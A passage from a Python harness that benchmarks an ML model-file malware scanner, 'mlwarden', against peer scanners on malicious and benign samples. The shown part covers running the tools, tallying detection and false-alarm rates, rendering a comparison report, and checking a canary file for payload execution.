    except (OSError, subprocess.CalledProcessError) as exc:
        print(f"cannot install peers: {exc}", file=sys.stderr)
        return None
    return bindir if all((bindir / t).exists() for t in PEERS) else None


def peer_versions(bindir: Path) -> dict[str, str]:
    out: dict[str, str] = {}
    rc, text, _, _ = _run([str(bindir / "pip"), "list", "--format", "json"], 60, bindir)
    if rc == 0:
        for pkg in json.loads(text):
            if pkg["name"].lower() in PEERS:
                out[pkg["name"].lower()] = pkg["version"]
    return out


# ============================================================================ run + report


def stratified(samples: list[Sample]) -> list[Sample]:
    """Round-robin over classes, so a sample or a time budget keeps every class."""
    by: dict[str, list[Sample]] = {}
    for s in samples:
        by.setdefault(s.cls, []).append(s)
    out: list[Sample] = []
    queues = list(by.values())
    while any(queues):
        for q in queues:
            if q:
                out.append(q.pop(0))
    return out


def run_all(samples: list[Sample], corpus: Path, tools: list[str], *, bindir: Path | None,
            timeout: float, modelaudit_budget: float, tmp: Path,
            progress: Callable[[str], None]) -> dict[str, dict[str, Outcome]]:
    """{sample name: {tool: Outcome}}. ModelAudit stops at its budget (then "skipped")."""
    tmp.mkdir(parents=True, exist_ok=True)
    results: dict[str, dict[str, Outcome]] = {s.name: {} for s in samples}
    spent: dict[str, float] = {t: 0.0 for t in tools}
    runners: dict[str, Callable[[Path], Outcome]] = {
        "mlwarden": lambda p: run_mlwarden(p, timeout, tmp)}
    if bindir is not None:
        runners["picklescan"] = lambda p: run_picklescan(p, timeout, tmp, bindir)
        runners["modelscan"] = lambda p: run_modelscan(p, timeout, tmp, bindir)
        runners["fickling"] = lambda p: run_fickling(p, timeout, tmp, bindir)
        runners["modelaudit"] = lambda p: run_modelaudit(p, max(timeout, 120.0), tmp, bindir)
    for i, s in enumerate(samples, 1):
        for tool in tools:
            if tool not in runners:
                results[s.name][tool] = Outcome("skipped", 0.0, "tool unavailable")
                continue
            if tool == "modelaudit" and spent[tool] > modelaudit_budget:
                results[s.name][tool] = Outcome("skipped", 0.0, "time budget spent")
                continue
            o = runners[tool](corpus / s.path)
            spent[tool] += o.seconds
            results[s.name][tool] = o
        progress(f"[{i}/{len(samples)}] {s.name}: " + " ".join(
            f"{t}={results[s.name][t].result}" for t in tools))
    return results


@dataclass(frozen=True)
class Totals:
    ran_malicious: int
    caught: int  # alarm on a malicious sample
    signalled: int  # alarm or warn on a malicious sample
    ran_benign: int
    false_alarms: int  # alarm on a benign sample
    noise: int  # warn on a benign sample
    errors: int  # error on any sample
    ran: int
    seconds: float

    @staticmethod
    def of(samples: list[Sample], res: dict[str, dict[str, Outcome]], tool: str,
           only: set[str] | None = None) -> Totals:
        ran = [(s, res[s.name][tool]) for s in samples
               if res[s.name][tool].result != "skipped" and (only is None or s.name in only)]
        mal = [o for s, o in ran if s.malicious]
        ben = [o for s, o in ran if not s.malicious]
        return Totals(
            len(mal), sum(o.result == "alarm" for o in mal),
            sum(o.result in ("alarm", "warn") for o in mal), len(ben),
            sum(o.result == "alarm" for o in ben), sum(o.result == "warn" for o in ben),
            sum(o.result == "error" for _, o in ran), len(ran), sum(o.seconds for _, o in ran))

    def rate(self, n: int, d: int) -> float:
        return n / d if d else 0.0


def _pct(n: int, d: int) -> str:
    return f"{100 * n / d:5.1f}%" if d else "  n/a"


def render(samples: list[Sample], res: dict[str, dict[str, Outcome]], tools: list[str],
           verbose: bool = False) -> str:
    lines: list[str] = []
    w = max(len(c) for c in (*MALICIOUS_CLASSES, *BENIGN_CLASSES)) + 2
    head = f"{'class':<{w}}{'n':>4}  " + "".join(f"{t:>12}" for t in tools)
    lines += ["Malicious samples: caught (alarm) / ran", head, "-" * len(head)]

    def row(cls: str, malicious: bool) -> str:
        group = [s for s in samples if s.cls == cls]
        cells = []
        for t in tools:
            ran = [res[s.name][t] for s in group if res[s.name][t].result != "skipped"]
            hit = sum(o.result == "alarm" for o in ran)
            cells.append(f"{hit}/{len(ran)}" if ran else "-")
        return f"{cls:<{w}}{len(group):>4}  " + "".join(f"{c:>12}" for c in cells)

    lines += [row(c, True) for c in MALICIOUS_CLASSES if any(s.cls == c for s in samples)]
    lines += ["", "Benign samples: false alarms / ran", head, "-" * len(head)]
    lines += [row(c, False) for c in BENIGN_CLASSES if any(s.cls == c for s in samples)]
    tot = {t: Totals.of(samples, res, t) for t in tools}
    lines += ["", "Totals", f"{'':<30}" + "".join(f"{t:>12}" for t in tools)]
    metrics: list[tuple[str, Callable[[Totals], str]]] = [
        ("detection (alarm)", lambda x: _pct(x.caught, x.ran_malicious)),
        ("any signal on malicious", lambda x: _pct(x.signalled, x.ran_malicious)),
        ("false alarms on benign", lambda x: _pct(x.false_alarms, x.ran_benign)),
        ("warnings on benign", lambda x: _pct(x.noise, x.ran_benign)),
        ("error / cannot scan", lambda x: _pct(x.errors, x.ran)),
        ("samples run", lambda x: f"{x.ran}"),
        ("wall time (s)", lambda x: f"{x.seconds:.1f}"),
    ]
    for label, fn in metrics:
        lines.append(f"{label:<30}" + "".join(f"{fn(tot[t]):>12}" for t in tools))
    if "mlwarden" in tools:
        lines += ["", "mlwarden vs each peer (head to head, on the samples the peer ran)"]
        for t in tools:
            if t == "mlwarden" or tot[t].ran == 0:
                continue
            only = {s.name for s in samples if res[s.name][t].result != "skipped"}
            me, them = Totals.of(samples, res, "mlwarden", only), tot[t]
            det = (f"{me.caught}/{me.ran_malicious} vs {them.caught}/{them.ran_malicious}"
                   + (f" ({me.caught / them.caught:.2f}x)" if them.caught else ""))
            fp = f"{me.false_alarms} vs {them.false_alarms}"
            err = f"{me.errors} vs {them.errors}"
            speed = f"{them.seconds / me.seconds:.1f}x" if me.seconds else "n/a"
            lines.append(f"  {t:<11} caught {det}; false alarms {fp}; errors {err}; "
                         f"peer/mlwarden time {speed}")
    lines += ["", "mlwarden misses, false alarms, warnings and errors:"]
    bad = False
    for s in samples:
        o = res[s.name].get("mlwarden")
        if o is None:
            continue
        wrong = (s.malicious and o.result != "alarm") or (not s.malicious and o.result != "clean")
        if wrong:
            bad = True
            tag = "KNOWN GAP" if s.name in KNOWN_GAPS else (
                "accepted" if s.name in ACCEPTABLE_SUSPICIOUS and o.result == "warn" else "NEW")
            lines.append(f"  [{tag}] {s.name} ({s.cls}, {'malicious' if s.malicious else 'benign'}"
                         f"): {o.result} {o.detail} -- {s.path}")
    if not bad:
        lines.append("  none")
    if verbose:
        lines += ["", "Per sample"]
        for s in samples:
            lines.append(f"  {s.name:<44} {'M' if s.malicious else 'B'} " + " ".join(
                f"{t}={res[s.name][t].result}" for t in tools))
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--work", type=Path, default=DEFAULT_WORK,
                    help=f"work directory (default {DEFAULT_WORK})")
    ap.add_argument("--skip", action="append", default=[], choices=PEERS,
                    help="leave a peer out (repeatable)")
    ap.add_argument("--sample", type=int, default=0,
                    help="run on a class-stratified sample of N samples only")
    ap.add_argument("--modelaudit-budget", type=float, default=1800.0,
                    help="total seconds for ModelAudit; later samples are skipped (default 1800)")
    ap.add_argument("--timeout", type=float, default=60.0, help="per-sample timeout (ModelAudit:"
                                                               " at least 120)")
    ap.add_argument("--fast", action="store_true", help="no transformers models in the corpus")
    ap.add_argument("--verbose", action="store_true", help="print every sample's outcomes")
    args = ap.parse_args(argv)
    work: Path = args.work.resolve()
    work.mkdir(parents=True, exist_ok=True)
    started = time.perf_counter()
    samples = stratified(build_corpus(work, fast=args.fast))
    print(f"corpus: {sum(s.malicious for s in samples)} malicious, "
          f"{sum(not s.malicious for s in samples)} benign samples in {work / 'corpus'} "
          f"({time.perf_counter() - started:.1f}s)", file=sys.stderr)
    if args.sample:
        samples = samples[: args.sample]
    tools = [t for t in TOOLS if t not in args.skip]
    bindir = ensure_peers(work) if any(t in PEERS for t in tools) else None
    versions = peer_versions(bindir) if bindir else {}
    res = run_all(samples, work / "corpus", tools, bindir=bindir, timeout=args.timeout,
                  modelaudit_budget=args.modelaudit_budget, tmp=work / "tmp",
                  progress=lambda m: print(m, file=sys.stderr))
    text = render(samples, res, tools, args.verbose)
    print(text)
    marker = work / "marker" / "NEVER-CREATED"
    if marker.exists():
        print(f"WARNING: {marker} exists: something executed a payload", file=sys.stderr)
    doc = {"versions": versions, "tools": tools, "marker_created": marker.exists(),
           "known_gaps": KNOWN_GAPS, "acceptable_suspicious": ACCEPTABLE_SUSPICIOUS,
           "totals": {t: asdict(Totals.of(samples, res, t)) for t in tools},
           "samples": [{**asdict(s), "outcomes": {t: asdict(o) for t, o in res[s.name].items()}}
                       for s in samples]}
    from mlwarden.util.fs import atomic_write_text

    atomic_write_text(work / "results.json", json.dumps(doc, indent=1))
    print(f"\nresults: {work / 'results.json'}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
